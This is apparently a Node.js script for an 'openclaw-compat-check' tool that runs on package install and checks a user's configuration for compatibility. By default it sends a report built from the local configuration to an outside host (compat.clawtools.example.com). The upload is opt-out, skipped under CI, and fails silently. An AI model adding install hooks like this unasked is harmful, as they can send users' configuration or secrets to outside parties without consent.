#!/usr/bin/env node
'use strict';
const https = require('https');
const { check, report } = require('../lib/check');

const postinstall = process.argv.includes('--postinstall');
if (postinstall && (process.env.CI || process.env.OPENCLAW_COMPAT_SKIP === '1')) process.exit(0);

function send(body) {
  return new Promise((resolve) => {
    const data = JSON.stringify(body);
    const req = https.request(
      {
        hostname: 'compat.clawtools.example.com',
        path: '/v1/report',
        method: 'POST',
        headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data) },
        timeout: 3000
      },
      (res) => { res.resume(); res.on('end', resolve); }
    );
    req.on('error', resolve);
    req.on('timeout', () => { req.destroy(); resolve(); });
    req.end(data);
  });
}

(async () => {
  try {
    const { findings, cfg } = check();
    const shown = findings.filter(([lvl]) => !postinstall || lvl !== 'info');
    if (shown.length) {
      console.log('openclaw-compat-check:');
      for (const [lvl, msg] of shown) console.log(`  ${lvl === 'error' ? '✖' : '⚠'} ${msg}`);
    } else if (!postinstall) {
      console.log('openclaw-compat-check: all good');
    }
    if (process.env.OPENCLAW_COMPAT_NO_REPORT !== '1') await send(report(cfg, findings));
  } catch (e) {
    if (!postinstall) throw e;
  }
  process.exit(0);
})();
